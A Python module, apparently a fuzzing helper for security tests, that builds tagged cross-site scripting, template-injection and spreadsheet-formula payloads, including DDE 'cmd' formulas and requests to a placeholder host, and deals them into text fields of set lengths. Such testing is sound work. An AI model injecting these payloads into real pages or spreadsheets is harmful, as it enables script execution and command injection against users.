"""Texts that would run a script, or a formula, wherever they are put into a page or a table unescaped.

The grammar: something that can be seen to have run (`acts`), in something that runs it (`carriers`),
after something that leaves the place where a text stands (`ways_out`), and a few that need no more.
Each carries the mark `zq`; what is markup carries it as an attribute too, so that an element made of
a text is found even where nothing set it off.
"""

import random
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from itertools import product

MARK = "zq"
#: Where a payload that runs may ask for something; nobody answers there.
AWAY = "zq.invalid"

#: What can be seen: a call, a dialog, a line in the console, a request.
_ACTS = ("zq({n})", "alert('zq{n}')", "console.log('zq-ran {n}')", "fetch('//zq.invalid/{n}')")
#: How a text leaves where it stands: a text, an attribute, a text box, a title, a script, a comment.
_WAYS_OUT = (
    "", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "</style>", "]]>", "</option></select>",
)  # fmt: skip
_CARRIERS = (
    "<script zq>{act}</script>",
    '<img zq src=x onerror="{act}">',
    "<svg zq onload={act}>",
    "<SvG zq/oNlOaD={act}//",
    "<details zq open ontoggle={act}>",
    "<input zq autofocus onfocus={act}>",
    '<iframe zq srcdoc="<script>parent.{act}</script>">',
    '<iframe zq src="javascript:{act}">',
    '<a zq href="javascript:{act}">x</a>',
    '<a zq href="java&#x0A;script:{act}">x</a>',
    '<svg><a zq xlink:href="javascript:{act}"><text>x</text></a></svg>',
    "<svg><script zq>{act}</script></svg>",
    "<svg><animate zq onbegin={act} attributeName=x dur=1s>",
    "<math><mtext zq><script>{act}</script></mtext></math>",
    '<form zq action="javascript:{act}"><button>x</button></form>',
    '<button zq formaction="javascript:{act}">x</button>',
    '<p zq hx-on:load="{act}">x</p>',
    '<object zq data="javascript:{act}">',
    '<meta zq http-equiv="refresh" content="0;url=javascript:{act}">',
    "<video zq><source onerror={act}></video>",
)
#: What leaves an attribute and stays in its element; a space of another kind does as well.
_ATTRIBUTES = (
    '" zq onmouseover="{act}', "' zq onfocus='{act}' autofocus='", "x zq onclick={act} ",
    '" zq autofocus onfocus="{act}', '"\u00a0zq onload="{act}', '"/zq/onpointerenter="{act}',
)  # fmt: skip
#: Addresses, where a text becomes a link.
_ADDRESSES = (
    "javascript:{act}", "JaVaScRiPt:{act}", " javascript:{act}", "java\tscript:{act}",
    "data:text/html,<script zq>{act}</script>", "vbscript:{act}", "javascript://zq.example/%0A{act}",
)  # fmt: skip
#: Templates of the server and of the page, and texts that leave a script.
_LANGUAGES = (
    "{{{{ '{act}'|safe }}}}", "{{% include 'zq{n}' %}}", "${{{act}}}",
    "{{{{constructor.constructor('{act}')()}}}}", "#{{{act}}}", "<%= {act} %>",
    "';{act};//", '";{act};//', "`;{act};`", "\\';{act};//",
    '"}}</script><script zq>{act}</script>', "\u2028{act}//", "*/{act}/*", "<!--<script zq>{act}//-->",
)  # fmt: skip
#: Styles.
_STYLES = (
    "<style zq>@import '//zq.invalid/{n}';</style>", '" zq style="background:url(//zq.invalid/{n})',
    "<link zq rel=stylesheet href=//zq.invalid/{n}>", "}} * {{ background: url(//zq.invalid/{n}) }}",
)  # fmt: skip
#: Letters that another step may turn into those that matter: full width, entities, doubled escapes.
_LETTERS = (
    "＜script zq＞{act}＜/script＞", "&lt;script zq&gt;{act}&lt;/script&gt;",
    "&#60;img zq src=x onerror={act}&#62;",
    "%3Cscript zq%3E{act}%3C/script%3E", "\\u003cscript zq\\u003e{act}\\u003c/script\\u003e",
    "&amp;lt;svg zq onload={act}&amp;gt;", "<scr<script>ipt zq>{act}</scr</script>ipt>",
    "\u202e<b zq>{act}</b>\u202c",
)  # fmt: skip
#: Where a table is opened by another program.
_FORMULAS = (
    '=HYPERLINK("//zq.invalid/{n}","{act}")', "+zq{n}+cmd|' /C calc'!A0", "-2+3+cmd|'/C zq{n}'!A0",
    "@SUM(zq{n})", "\t=zq{n}()", "＝zq{n}()",
)  # fmt: skip
#: For fields that take a few letters only.
_SHORT = (
    "<b zq>", "'zq onx=", '"><b zq>', "{{{{zq}}}}", "=zq()", "<!--zq", "&lt;b zq>", "<zq>", "<p zq",
    "zq'\"<>&",
)  # fmt: skip


@dataclass(frozen=True)
class Payload:
    """One text, of which family it is."""

    family: str
    text: str


def all_payloads() -> list[Payload]:
    """Every text of the grammar, each once."""
    return list(dict.fromkeys(_made()))


def _made() -> Iterator[Payload]:
    number = 0
    families = {
        "markup": [out + carrier for out, carrier in product(_WAYS_OUT, _CARRIERS)],
        "attribute": _ATTRIBUTES, "address": _ADDRESSES, "language": _LANGUAGES, "style": _STYLES,
        "letters": _LETTERS, "formula": _FORMULAS, "short": _SHORT,
    }  # fmt: skip
    for family, shapes in families.items():
        acts = {"markup": _ACTS[:2], "short": _ACTS[:1], "style": _ACTS[:1]}.get(family, _ACTS)
        for shape, act in product(shapes, acts):
            number += 1
            yield Payload(family, shape.format(act=act.format(n=number), n=number))
    for carrier, act in product(_CARRIERS, _ACTS[2:]):
        number += 1
        yield Payload("markup", carrier.format(act=act.format(n=number), n=number))


class Deal:
    """Deals payloads out, so that each comes up before any comes up again."""

    def __init__(self, payloads: Sequence[Payload], chance: random.Random) -> None:
        self._payloads, self._chance = payloads, chance
        self._left: list[Payload] = []
        self._shortest = min(len(one.text) for one in payloads)
        self._standing: dict[str, list[Payload]] = {}

    def text(self, most: int) -> str:
        """Payloads that fit into so many letters, one after the other."""
        told, some = "", list[Payload]()
        while True:
            one = self._next(min(most, 80 if most < 200 else 200) - len(told))
            if one is None or (told and len(told) + len(one.text) + 1 > most):
                break
            some.append(one)
            told = f"{told} {one.text}" if told else one.text
            if one.family == "formula" or len(told) > 500:
                break
        self._standing[told] = some
        return told

    def standing_in(self, text: str) -> list[Payload]:
        """The payloads of a text that was dealt."""
        return self._standing.get(text, [])

    def _next(self, most: int) -> Payload | None:
        """Another payload that is no longer; the ones that are dealt come back at the end."""
        while most >= self._shortest:
            for at, one in enumerate(self._left):
                if len(one.text) <= most:
                    return self._left.pop(at)
            fresh = list(self._payloads)
            self._chance.shuffle(fresh)
            self._left += fresh
        return None
